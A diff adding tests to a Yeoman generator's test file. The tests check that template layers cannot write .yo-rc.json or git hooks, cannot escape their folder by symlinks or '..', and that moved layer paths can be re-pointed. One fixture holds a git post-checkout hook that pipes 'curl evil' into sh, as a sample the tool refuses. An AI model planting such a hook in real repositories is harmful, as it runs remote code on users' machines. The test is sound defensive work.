@@ -8,7 +8,7 @@
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, it } from 'node:test';
 import { parse as parseYaml } from 'yaml';
@@ -196,6 +196,85 @@ describe('layers refused, nothing written', () => {
   });
 });
 
+describe('layers stay in their folder, nothing written', () => {
+  const refused = (dir: string, expected: RegExp) => {
+    const work = scratchDir('layers-refused');
+    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', dir]);
+    assert.equal(result.status, 1, result.stdout + result.stderr);
+    assert.equal(result.stderr.split('\n').filter(Boolean).length, 1, result.stderr);
+    assert.match(result.stderr.trimEnd(), expected);
+    assert.deepEqual(listFiles(work), [], 'nothing written');
+  };
+  /** A file outside any layer, which a layer must not be able to copy or run. */
+  const outside = (name: string, text: string) => {
+    const file = path.join(scratchDir('outside'), name);
+    writeFileSync(file, text);
+    return file;
+  };
+
+  it('a layer that would write .yo-rc.json, as a file or a template', () => {
+    for (const file of ['.yo-rc.json', '.yo-rc.json.hbs', '.YO-RC.JSON']) {
+      const dir = layer({ name: 'config', context: '^1.0.0' }, { [file]: '{}\n' });
+      refused(dir, new RegExp(`^generator-lambda-local: template layer config: file "templates/${file.replaceAll('.', '\\.')}" is not allowed; expected files that write neither \\.yo-rc\\.json \\(the answers, pins and hashes\\) nor anything under \\.git/; nothing was written$`));
+    }
+  });
+
+  it('a layer that would write under .git/', () => {
+    const dir = layer({ name: 'hooks', context: '^1.0.0' }, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n' });
+    refused(dir, /^generator-lambda-local: template layer hooks: file "templates\/\.git\/hooks\/post-checkout" is not allowed; expected files that write neither/);
+  });
+
+  it('a layer file that is a link out of the layer, to a file or a folder', () => {
+    const file = layer({ name: 'linked', context: '^1.0.0' });
+    mkdirSync(path.join(file, 'templates'));
+    const target = outside('hostname', 'secret host\n');
+    symlinkSync(target, path.join(file, 'templates', 'hostname'));
+    refused(file, new RegExp(`^generator-lambda-local: template layer linked: file "templates/hostname" is not allowed \\(it resolves to ${target.replaceAll('.', '\\.')}, outside the layer's folder\\); expected files inside the layer's folder; nothing was written$`));
+
+    const folder = layer({ name: 'linked', context: '^1.0.0' });
+    mkdirSync(path.join(folder, 'templates'));
+    symlinkSync(path.dirname(target), path.join(folder, 'templates', 'localdev'));
+    refused(folder, /^generator-lambda-local: template layer linked: file "templates\/localdev" is not allowed \(it resolves to .*, outside the layer's folder\); expected files inside the layer's folder; nothing was written$/);
+  });
+
+  it('a helpers module outside the layer, by .. or by a link, and nothing of it runs', () => {
+    const marker = path.join(scratchDir('helpers-ran'), 'ran');
+    const code = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'ran');\nexport const shout = (text) => String(text).toUpperCase();\n`;
+    const module = outside('x.mjs', code);
+    const dotted = layer({ name: 'far', context: '^1.0.0', helpers: path.relative(scratchDir('unused'), module) });
+    const byDots = layer({ name: 'far', context: '^1.0.0', helpers: `../${path.relative(path.dirname(dotted), module)}` });
+    refused(byDots, /^generator-lambda-local: .*lambda-local\.templates\.json: "helpers" ".*x\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\); expected the path of a JavaScript module in the layer; nothing was written$/);
+    const linked = layer({ name: 'far', context: '^1.0.0', helpers: 'helpers.mjs' });
+    symlinkSync(module, path.join(linked, 'helpers.mjs'));
+    refused(linked, /"helpers" "helpers\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\)/);
+    assert.equal(listFiles(path.dirname(marker)).length, 0, 'the module outside never ran');
+  });
+
+  it("a link that stays in the layer is the layer's own file", () => {
+    const dir = layer({ name: 'inside', context: '^1.0.0' }, { 'localdev/notes.txt': 'ours\n' });
+    symlinkSync(path.join(dir, 'templates/localdev/notes.txt'), path.join(dir, 'templates/localdev/same.txt'));
+    const repo = generated(['--templates', dir]);
+    assert.equal(read(repo, 'localdev/same.txt'), 'ours\n');
+  });
+});
+
+describe('a run with layers', () => {
+  it('names them in its output, and a run without says nothing of layers', () => {
+    const work = scratchDir('layers-named');
+    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', example]);
+    assert.equal(result.status, 0, result.stderr);
+    assert.match(result.stdout + result.stderr, new RegExp(`template layers \\(bottom first\\): acme \\(${example.replaceAll('.', '\\.')}\\)\n`));
+    const plain = runBin(scratchDir('layers-named'), ['demo', '--yes', '--offline']);
+    assert.doesNotMatch(plain.stdout + plain.stderr, /template layer/);
+    const rerun = runBin(path.join(work, 'demo'), ['--yes', '--offline', '--memory', '512']);
+    assert.equal(rerun.status, 0, rerun.stderr);
+    assert.match(rerun.stdout + rerun.stderr, /template layers \(bottom first\): acme \(/, 'a re-run, through Yeoman');
+    const bump = runBin(path.join(work, 'demo'), ['bump', '--offline']);
+    assert.equal(bump.status, 0, bump.stderr);
+    assert.match(bump.stdout + bump.stderr, /template layers \(bottom first\): acme \(/);
+  });
+});
+
 describe('layers stacked', () => {
   it('apply bottom to top: the later layer wins a partial, a file and a preset, and the earlier keeps the rest', () => {
     const bottom = layer(
@@ -221,6 +300,79 @@ describe('layers stacked', () => {
     assert.match(compose, /mem_limit: 512m/);
     assert.match(compose, /AWS_LAMBDA_FUNCTION_TIMEOUT: "20"/);
     assert.equal(JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'].templates, `${bottom},${top}`);
+  });
+});
+
+describe('a stored layer path that no longer exists', () => {
+  /** A repo generated with a copy of the example beside it, named relatively; then the copy moves. */
+  function movedLayer() {
+    const work = scratchDir('layers-moved');
+    cpSync(example, path.join(work, 'acme-layer'), { recursive: true });
+    const repo = generated(['--templates', './acme-layer'], work);
+    renameSync(path.join(work, 'acme-layer'), path.join(work, 'platform-layer'));
+    const snapshot = () => Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)]));
+    return { work, repo, snapshot };
+  }
+  const stored = (repo: string) => JSON.parse(read(repo, '.yo-rc.json'))['generator-lambda-local'] as Record<string, unknown>;
+
+  it('names .yo-rc.json and how to re-point it, in one line, from a re-run and from bump, writing nothing', () => {
+    const { work, repo, snapshot } = movedLayer();
+    const before = snapshot();
+    for (const args of [['--yes', '--offline'], ['bump', '--offline'], ['bump', '--check', '--offline']]) {
+      const result = runBin(repo, args);
+      assert.equal(result.status, 1, `${args.join(' ')}: ${result.stdout}${result.stderr}`);
+      assert.equal(
+        result.stderr,
+        `generator-lambda-local: .yo-rc.json "templates": "../acme-layer" is not allowed; expected a template layer, a folder with lambda-local.templates.json ` +
+          `(${path.join(work, 'acme-layer')} has none): if the layer moved, re-point it with --templates <new path> (a re-run or bump takes it)\n`,
+        args.join(' '),
+      );
+      assert.deepEqual(snapshot(), before, 'nothing written');
+    }
+  });
+
+  it('is re-pointed by bump --templates, which changes nothing else, and the repo runs on', () => {
+    const { repo, snapshot } = movedLayer();
+    const before = snapshot();
+    const bump = runBin(repo, ['bump', '--offline', '--templates', '../platform-layer']);
+    assert.equal(bump.status, 0, bump.stderr);
+    assert.equal(stored(repo).templates, '../platform-layer');
+    const after = snapshot();
+    assert.deepEqual(Object.keys(after), Object.keys(before));
+    for (const file of Object.keys(before).filter((name) => name !== '.yo-rc.json')) assert.equal(after[file], before[file], file);
+    const { templates: _old, ...rest } = stored(repo);
+    const { templates: _new, ...restBefore } = JSON.parse(before['.yo-rc.json'] ?? '{}')['generator-lambda-local'] as Record<string, unknown>;
+    assert.deepEqual(rest, restBefore, 'only the layer path moved in .yo-rc.json');
+    const rerun = runBin(repo, ['--yes', '--offline']);
+    assert.equal(rerun.status, 0, rerun.stderr);
+    const check = runBin(repo, ['bump', '--check', '--offline']);
+    assert.equal(check.status, 0, check.stdout + check.stderr);
+  });
+
+  it('is re-pointed by a re-run given --templates, from a subfolder too', () => {
+    const { repo } = movedLayer();
+    const rerun = runBin(path.join(repo, 'localdev'), ['--yes', '--offline', '--templates', '../../platform-layer']);
+    assert.equal(rerun.status, 0, rerun.stderr);
+    assert.equal(stored(repo).templates, '../platform-layer');
+    assert.match(read(repo, 'localdev/docker-compose.yml'), /\n {2}payments:\n/);
+  });
+
+  it('bump refuses --templates that name layers writing other files: it re-points, and a re-run changes layers', () => {
+    const { repo, snapshot } = movedLayer();
+    // Another layer: without the payments stub that the repo's layer writes.
+    const other = layer({ name: 'other', context: '^1.0.0' });
+    const before = snapshot();
+    const bump = runBin(repo, ['bump', '--offline', '--templates', other]);
+    assert.equal(bump.status, 1, bump.stderr);
+    const escaped = other.replaceAll('.', '\\.');
+    assert.match(
+      bump.stderr,
+      new RegExp(
+        `^generator-lambda-local: --templates: "${escaped}" is not allowed \\(its files differ from what \\.yo-rc\\.json records: [^)]*localdev/stubs/payments\\.mjs[^)]*\\); ` +
+          `expected the layers the repo was generated with, moved: bump only re-points them \\(to change layers, run npx generator-lambda-local --templates ${escaped}\\)\\n$`,
+      ),
+    );
+    assert.deepEqual(snapshot(), before, 'nothing written');
   });
 });
 
